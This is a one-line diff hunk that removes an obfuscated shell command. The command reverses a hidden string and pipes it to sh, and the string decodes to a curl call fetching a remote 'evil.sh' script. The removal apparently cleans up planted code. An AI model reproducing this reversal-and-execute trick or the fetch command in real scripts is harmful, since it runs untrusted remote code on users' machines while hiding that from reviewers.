@@ -1,1 +1,0 @@
-echo "hs.live/ved.repleh//:sptth lruc" | rev | sh
